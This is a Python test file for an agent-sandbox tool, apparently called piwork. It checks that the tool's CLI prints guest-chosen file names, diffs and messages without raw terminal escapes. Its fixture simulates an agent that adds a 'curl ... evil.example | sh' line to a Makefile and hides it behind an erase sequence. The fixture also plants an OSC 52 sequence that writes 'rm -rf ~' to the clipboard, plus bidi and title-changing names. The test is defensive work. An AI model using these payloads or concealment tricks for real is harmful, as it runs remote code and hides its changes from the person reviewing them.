"""Guest text is inert on the terminal (review finding 8): ``piwork changes``,
``undo``, ``tasks show/list`` and ``policy log`` print file names, diffs, notes
and stop messages the guest chose, with ESC, OSC 52, C1 and bidi controls in
them; no such character reaches stdout or stderr raw.

The checkpoints are the real thing: a task whose agent's changes were taken,
applied and recorded through the run's recorder and the change-set engine (at
unit level: the agent's copy of the folder is a directory, no VM needed).
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from piwork.cli.main import main
from piwork.policy import AuditLog
from piwork.tasks.model import StopReason, TaskStatus
from piwork.tasks.store import TaskStore
from piwork.textsafe import sanitize, sanitize_block
from tests.helpers.checkpoints import Run

ERASE_ABOVE = "\x1b[1A\x1b[2K\x1b[1A\x1b[2K"
OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # writes "rm -rf ~" to the clipboard
TITLE = "\x1b]0;pwned\x07\x1b[2J"
C1_CSI = "\x9b2J"
BIDI = "\u202etxt.exe"


def raw_controls(text: str) -> list[str]:
    """Every character of ``text`` that a terminal could act on (tab/newline allowed)."""
    return [c for c in text if c not in "\t\n" and sanitize(c) != c]


def assert_inert(out: str, err: str) -> None:
    assert "\x1b" not in out and "\x1b" not in err
    assert raw_controls(out) == [] and raw_controls(err) == []


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def evil_run(make_run: Any) -> Run:
    """One turn in which the agent hides a `| sh` line behind an erase sequence and
    names files, a new repository and a git alias with escape sequences (those wait)."""
    run: Run = make_run()
    (run.folder / "Makefile").write_text("all:\n\techo build\n")
    run.start()
    run.turn()
    f = run.view
    (f / "Makefile").write_text(
        f"all:\n\techo build\n\tcurl -s https://evil.example/x | sh\n{ERASE_ABOVE}{C1_CSI}\n"
    )
    (f / f"notes{OSC52}.txt").write_text(f"{TITLE}\n")
    (f / f"{BIDI}\u2028x").write_text("bidi\n")
    nested = f / f"vendor{TITLE}"
    nested.mkdir()
    subprocess.run(["git", "init", "-q", str(nested)], check=True)
    (f / f".GIT:{OSC52}").mkdir()
    (f / f".GIT:{OSC52}" / "x").write_text("x")
    run.end()
    return run


def test_changes_prints_no_raw_escape(evil_run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "changes", evil_run.id, "--turn", "1")
    assert code == 0, err
    assert_inert(out, err)
    # The malicious line is shown, its erase sequence visible instead of obeyed,
    # the tab of the Makefile kept.
    assert "+\tcurl -s https://evil.example/x | sh\n" in out
    assert "+\\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\x9b2J" in out
    assert "A notes\\x1b]52;c;cm0gLXJmIH4K\\x07.txt" in out
    assert "\\u202etxt.exe\\u2028x" in out
    # What waits (a new repository, a git alias) is listed, escaped too.
    code, out, err = cli(capsys, "changes", evil_run.id)
    assert code == 0, err
    assert_inert(out, err)
    assert "waiting for you" in out
    assert "vendor\\x1b]0;pwned\\x07\\x1b[2J/.git" in out
    assert ".GIT:\\x1b]52;c;cm0gLXJmIH4K\\x07/x" in out

    for extra in (["--stat"], []):
        code, out, err = cli(capsys, "changes", evil_run.id, *extra)
        assert code == 0, err
        assert_inert(out, err)
    code, out, err = cli(capsys, "changes", evil_run.id, "--json")
    assert code == 0, err
    assert_inert(out, err)
    assert out.isascii()
    assert {w["root"] for w in json.loads(out)["waiting"]} >= {f"vendor{TITLE}/.git"}
    paths = {c["path"] for c in json.loads(out)["changes"]}
    assert f"notes{OSC52}.txt" in paths  # --json is lossless, only escaped


def test_undo_and_its_conflicts_print_no_raw_escape(
    evil_run: Run, capsys: pytest.CaptureFixture[str]
) -> None:
    f = evil_run.folder
    # The person edits an evil-named file after the run: undo reports a conflict
    # naming it, without its escapes.
    (f / f"notes{OSC52}.txt").write_text("edited by the person\n")
    code, out, err = cli(capsys, "undo", evil_run.id, "--turn", "1")
    assert code == 4
    assert_inert(out, err)
    assert "notes\\x1b]52;c;cm0gLXJmIH4K\\x07.txt: changed outside the task" in err
    code, out, err = cli(capsys, "undo", evil_run.id, "--turn", "1", "--force")
    assert code == 0, err
    assert_inert(out, err)
    assert "removed  notes\\x1b]52;c;cm0gLXJmIH4K\\x07.txt" in out
    assert "restored Makefile" in out
    assert (f / "Makefile").read_text() == "all:\n\techo build\n"


def test_tasks_show_and_list_print_no_raw_escape(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PIWORK_HOME", str(tmp_path / "home"))
    stop = f"pi exited: {TITLE}\n     id  forged-field\n{OSC52}{C1_CSI}{BIDI}"
    with TaskStore() as store:
        task = store.create(f"title {TITLE}")
        with store.claim(task.id):
            store.transition(task.id, TaskStatus.RUNNING)
            store.append_event(task.id, "pi", {"type": "message", "text": f"{OSC52}{C1_CSI}"})
            store.transition(task.id, TaskStatus.STOPPED, reason=StopReason.ERROR, message=stop)
    code, out, err = cli(capsys, "tasks", "show", task.id, "--transcript")
    assert code == 0, err
    assert_inert(out, err)
    assert " message  pi exited: \\x1b]0;pwned\\x07\\x1b[2J\n" in out
    # A continuation line of the message is indented: it cannot pass for a field.
    assert "\n               id  forged-field\n" in out
    assert "\\x1b]52;c;cm0gLXJmIH4K\\x07\\x9b2J\\u202etxt.exe" in out
    for argv in (
        ["tasks", "show", task.id, "--json", "--transcript"],
        ["tasks", "list", "--all"],
        ["tasks", "list", "--all", "--json"],
    ):
        code, out, err = cli(capsys, *argv)
        assert code == 0, err
        assert_inert(out, err)
    assert json.loads(out)[0]["title"] == f"title {TITLE}"


def test_policy_log_prints_no_raw_escape(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PIWORK_HOME", str(tmp_path / "home"))
    audit = AuditLog()
    audit.path.parent.mkdir(parents=True, exist_ok=True)
    entry = {
        "time": "2026-01-01T00:00:00",
        "task": "t1",
        "action": "shell",
        "decision": "allow",
        "decidedBy": "person",
        "command": f"ls {OSC52}{C1_CSI}",
    }
    audit.path.write_text(json.dumps(entry) + "\n")
    code, out, err = cli(capsys, "policy", "log")
    assert code == 0, err
    assert_inert(out, err)
    assert "ls \\x1b]52;c;cm0gLXJmIH4K\\x07\\x9b2J" in out


# --------------------------------------------------------------------------- the sanitiser


def test_one_sanitiser_two_modes() -> None:
    evil = f"a\x1b[31mb\x07\tc\r\n{BIDI}\u200b\u00ad\u2028\u2029\x9b\udcff\x7fé中"
    assert sanitize(evil) == (
        "a\\x1b[31mb\\x07\tc\\x0d\n\\u202etxt.exe\\u200b\\xad\\u2028\\u2029\\x9b\\udcff\\x7fé中"
    )
    assert sanitize(evil, one_line=True).count("\\x09") == 1
    assert "\n" not in sanitize(evil, one_line=True)
    assert sanitize(evil, mode="strip") == "a[31mb\tc\ntxt.exeé中"
    assert sanitize(evil, mode="strip", one_line=True) == "a[31mb c  txt.exeé中"
    assert sanitize("x" * 10, limit=5) == "xxxx…"
    assert sanitize(None) == "" and sanitize(42) == "42"
    # Surrogates (a file name that is not UTF-8) come out printable.
    sanitize("\udcff").encode("utf-8")
    assert sanitize_block("one\ntwo\x1b", indent="  ") == "one\n  two\\x1b"


def test_gui_text_delegates_to_the_one_sanitiser() -> None:
    from piwork.gui import text as gui_text

    evil = f"rm \x1b[31mred\x07 a{BIDI}\u200b\r\nnext\u2028"
    assert gui_text.sanitize(evil) == sanitize(evil, mode="strip", limit=gui_text.MAX_GUEST_TEXT)
    assert gui_text.sanitize(evil, keep_newlines=False) == sanitize(
        evil, mode="strip", one_line=True, limit=gui_text.MAX_GUEST_TEXT
    )
